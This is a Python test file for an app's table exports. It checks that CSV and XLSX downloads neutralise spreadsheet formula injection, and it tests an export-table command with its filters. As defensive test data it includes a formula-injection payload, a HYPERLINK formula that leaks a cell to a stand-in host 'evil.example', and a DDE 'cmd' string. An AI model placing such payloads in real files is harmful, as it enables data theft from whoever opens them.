"""Exports that cannot run, and ``export-table``: the app's downloads from the command line.

A text cell a spreadsheet would read as a formula (OWASP: it starts with ``=``,
``+``, ``-``, ``@``, tab or carriage return) is written with a leading single
quote; XLSX cells are string cells, so opening the workbook with openpyxl finds
no formula anywhere.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import oracle
import pytest
from drawing import dataset_of
from run_cli import ROOT, run_countymap

from countymap.bench.hostile_files import formula_csv
from countymap.core.downloads import csv_bytes, geojson_bytes, neutralise, xlsx_bytes
from countymap.core.filters import FilterState, apply_filters
from countymap.core.geodata import load_geodata
from countymap.core.tables import read_raw
from countymap.validation.context import load_context
from countymap.validation.upload import check_file

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def formula_file(tmp_path_factory) -> Path:
    return formula_csv(tmp_path_factory.mktemp("formula") / "formula.csv")


@pytest.fixture(scope="module")
def uploaded(formula_file):
    """The formula file as the app holds it after an upload: every row valid, payloads intact."""
    result = check_file(formula_file, load_context())
    assert result.problems == [] and len(result.valid) == 6
    assert any(name.startswith("=HYPERLINK") for name in result.valid["name_zh"])
    return result.valid


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "  =1", "=DDE('cmd')"])
def test_formula_like_text_gets_a_single_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["龙潭镇", "a=b", "1.5", "", "'=already"])
def test_other_text_is_unchanged(text):
    assert neutralise(text) == text


def test_csv_download_has_no_cell_a_spreadsheet_would_run(uploaded):
    rows = list(csv.reader(io.StringIO(csv_bytes(uploaded).decode("utf-8-sig"), newline="")))
    texts = [cell for row in rows for cell in row]
    assert not [cell for cell in texts if cell.lstrip(" ").startswith(TRIGGERS)]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"click")' in texts
    assert "'@SUM(1)" in texts and "'\t=1" in texts and "'\r=1" in texts


def test_xlsx_download_holds_no_formula_cell(uploaded):
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(uploaded)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 6 * 10
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if str(cell.value).lstrip(" ").startswith(TRIGGERS)] == []
    assert {cell.data_type for cell in cells} == {"s"}


def test_downloads_still_read_back_as_the_same_table(uploaded):
    from_csv, from_xlsx = read_raw(csv_bytes(uploaded)), read_raw(xlsx_bytes(uploaded))
    assert from_csv.equals(from_xlsx)
    assert list(from_csv["id"]) == list(uploaded["id"])


def test_geojson_keeps_the_text_as_data(uploaded):
    collection = json.loads(geojson_bytes(dataset_of(uploaded, load_geodata(ROOT / "geodata")), uploaded))
    names = {feature["properties"]["name_zh"] for feature in collection["features"]}
    assert '=HYPERLINK("http://evil.example/?leak="&A2,"click")' in names  # JSON is not a spreadsheet


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson"])
def test_export_table_writes_what_the_app_downloads(tmp_path, formula_file, uploaded, fmt):
    out = tmp_path / f"out.{fmt}"
    done = run_countymap(
        "export-table", "--projects", str(formula_file), "--format", fmt, "--out", str(out), "--year", "2022"
    )
    assert done.returncode == 0, done.stderr
    shown = apply_filters(uploaded, FilterState(years=("2022",)))
    assert 0 < len(shown) < len(uploaded)
    expected = {
        "csv": lambda: csv_bytes(shown),
        "xlsx": lambda: read_raw(xlsx_bytes(shown)),
        "geojson": lambda: geojson_bytes(dataset_of(uploaded, load_geodata(ROOT / "geodata")), shown),
    }[fmt]()
    if fmt == "xlsx":  # a workbook carries its write time: compare the tables, and look for formulas
        assert read_raw(out.read_bytes()).equals(expected)
        book = openpyxl.load_workbook(out)
        assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
    else:
        assert out.read_bytes() == expected


def test_export_table_applies_every_filter_like_export_html(tmp_path):
    out = tmp_path / "out.csv"
    args = ["--projects", str(ROOT / "projects.csv"), "--format", "csv", "--out", str(out)]
    args += ["--year", "2023", "--category", "road,water", "--min-yi", "1", "--query", "公路"]
    assert run_countymap("export-table", *args).returncode == 0
    rows = read_raw(out.read_bytes())
    assert len(rows) > 0
    assert set(rows["category"]) <= {"road", "water"}
    assert all("2023" in years for years in rows["years"])
    assert all(float(amount) >= 1 for amount in rows["investment_yi"])


def test_export_table_has_the_disclosed_switch(tmp_path):
    out = tmp_path / "out.csv"
    args = ["--projects", str(ROOT / "projects.csv"), "--format", "csv", "--out", str(out), "--disclosed"]
    assert run_countymap("export-table", *args).returncode == 0
    rows = read_raw(out.read_bytes())
    expected = oracle.selected_ids(oracle.read_rows(ROOT / "projects.csv"), disclosed=True)
    assert 0 < len(expected) < len(oracle.read_rows(ROOT / "projects.csv"))
    assert sorted(rows["id"]) == expected


@pytest.mark.parametrize("text", ["a\rb", "_x0041_", "_x005F_x0041_", "行\n二"])
def test_xlsx_keeps_control_characters_and_escape_lookalikes(uploaded, text):
    one = uploaded.head(1).copy()
    one["summary_en"] = [text]
    assert read_raw(xlsx_bytes(one)).loc[0, "summary_en"] == text
